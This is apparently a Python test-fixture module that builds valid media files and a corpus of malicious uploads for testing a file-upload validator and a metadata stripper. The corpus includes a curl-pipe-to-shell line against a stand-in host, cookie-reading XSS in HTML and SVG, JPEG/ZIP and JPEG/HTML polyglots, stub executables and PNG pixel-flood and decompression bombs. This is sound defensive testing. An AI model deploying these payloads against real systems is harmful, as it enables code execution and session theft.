"""Files built by the tests: good evidence of every accepted type, and a corpus of bad files."""

from __future__ import annotations

import io
import struct
import wave
import zlib

from PIL import Image
from pypdf import PdfWriter

#: Words that must never survive into a stored image.
SECRET_MAKE = "SecretPhone 9000"
SECRET_COMMENT = b"home address in a comment"


def _exif_with_gps(orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = SECRET_MAKE  # Make
    exif[0x0112] = orientation
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (55.0, 57.0, 12.5), 3: "W", 4: (3.0, 11.0, 5.25)})
    return exif


def jpeg(width: int = 64, height: int = 32, *, gps: bool = False, orientation: int = 1, color: str = "red") -> bytes:
    """A JPEG; with ``gps``, it carries EXIF GPS, a camera make and a comment, like a phone photo."""
    image = Image.new("RGB", (width, height), color)
    image.paste(Image.new("RGB", (width // 4, height), "blue"))  # a left stripe, to see rotation
    buffer = io.BytesIO()
    extra = (
        {"exif": _exif_with_gps(orientation).tobytes(), "comment": SECRET_COMMENT} if gps or orientation != 1 else {}
    )
    image.save(buffer, "JPEG", quality=90, **extra)
    return buffer.getvalue()


def png(width: int = 40, height: int = 30, mode: str = "RGBA") -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, (width, height), (0, 128, 0, 128) if mode == "RGBA" else 90).save(buffer, "PNG")
    return buffer.getvalue()


def webp() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (50, 50), "yellow").save(buffer, "WEBP", exif=_exif_with_gps().tobytes())
    return buffer.getvalue()


def heic(*, gps: bool = True) -> bytes:
    from pillow_heif import register_heif_opener

    register_heif_opener()
    buffer = io.BytesIO()
    extra = {"exif": _exif_with_gps().tobytes()} if gps else {}
    Image.new("RGB", (64, 48), "purple").save(buffer, "HEIF", quality=80, **extra)
    return buffer.getvalue()


def pdf(pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def wav(frames: int = 8000) -> bytes:
    buffer = io.BytesIO()
    with wave.open(buffer, "wb") as audio:
        audio.setnchannels(1)
        audio.setsampwidth(2)
        audio.setframerate(8000)
        audio.writeframes(b"\x00\x01" * frames)
    return buffer.getvalue()


def mp3() -> bytes:
    """An ID3v2 header then MPEG-1 Layer III frame headers (silence)."""
    frame = b"\xff\xfb\x90\x64" + b"\x00" * 413
    return b"ID3\x04\x00\x00\x00\x00\x00\x00" + frame * 4


def m4a() -> bytes:
    """The ``ftyp`` box of an iPhone voice memo, then an empty ``mdat``."""
    ftyp = b"ftypM4A \x00\x00\x00\x00M4A mp42isom\x00\x00\x00\x00"
    return struct.pack(">I", len(ftyp) + 4) + ftyp + struct.pack(">I", 16) + b"mdat" + b"\x00" * 8


def ogg_opus() -> bytes:
    header = b"OpusHead\x01\x01\x38\x01\x80\xbb\x00\x00\x00\x00\x00"
    page = b"OggS\x00\x02" + b"\x00" * 8 + b"\x01\x00\x00\x00" + b"\x00" * 8 + b"\x01" + bytes([len(header)])
    return page + header


TEXT = "Reflections after the safeguarding course.\nI learned how to escalate a concern — and when.\n".encode()

# --- The bad-file corpus ------------------------------------------------------------------

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 100
WINDOWS_EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64 + b"PE\x00\x00" + b"\x00" * 64
)
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
HTML = b"<!doctype html><html><script>alert(document.cookie)</script></html>\n"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
ZIP_PAYLOAD = b"PK\x03\x04" + b"\x14\x00" * 10 + b"evil.class" + b"\x00" * 40 + b"PK\x05\x06" + b"\x00" * 18
NOT_A_PDF = b"%PDF-1.7\nthis is not a PDF at all, just a header and some words\n"
HTML_BEFORE_PDF = HTML + pdf()  # readers tolerate a PDF header anywhere in the first 1 KB; we do not


def jpeg_zip_polyglot() -> bytes:
    """A valid JPEG with a ZIP archive after its end (a GIFAR-style polyglot)."""
    return jpeg() + ZIP_PAYLOAD


def jpeg_html_polyglot() -> bytes:
    return jpeg() + b"<script>alert(1)</script>"


def truncated_jpeg() -> bytes:
    whole = jpeg(256, 256, color="green")
    return whole[: len(whole) // 2]


def pixel_flood_png(width: int = 100_000, height: int = 100_000) -> bytes:
    """A tiny PNG whose header claims 10 gigapixels (its pixel data is never there)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
        + chunk(b"IEND", b"")
    )


def decompression_bomb_png(side: int = 2000) -> bytes:
    """A real, fully decodable PNG that is small on disk and large in memory (grey, compresses ~1000:1)."""
    buffer = io.BytesIO()
    Image.new("L", (side, side), 0).save(buffer, "PNG", optimize=True)
    return buffer.getvalue()
